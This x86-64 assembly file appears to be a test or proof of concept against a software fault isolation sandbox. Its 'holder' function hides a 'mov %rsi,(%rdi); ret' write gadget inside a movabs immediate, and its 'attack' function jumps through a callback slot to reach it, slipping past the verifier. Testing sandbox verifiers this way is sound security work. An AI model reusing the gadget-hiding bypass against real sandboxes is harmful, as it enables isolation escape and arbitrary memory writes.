# jtdup.s: a module whose machine code is all "verified", plus (after
# patching, see jtdup_patch.py) two relocations at __sfi_jt_bounds.
# attack(addr, val) tail-jumps through callback slot 0, which the runtime
# points at jt[0] before the sandbox runs; holder hides `mov %rsi,(%rdi);
# ret` in a movabs immediate at a 16-aligned address.
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        jmp *__sfi_cb_slots(%rip)
        .p2align 4, 0xcc
        .globl holder
        .type holder,@function
holder:
        .fill 14, 1, 0x90
        movabsq $0xccccccccc3378948, %rax
        ret
        .p2align 4, 0xcc
        .globl ping
        .type ping,@function
ping:
        movl $42, %eax
        ret

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
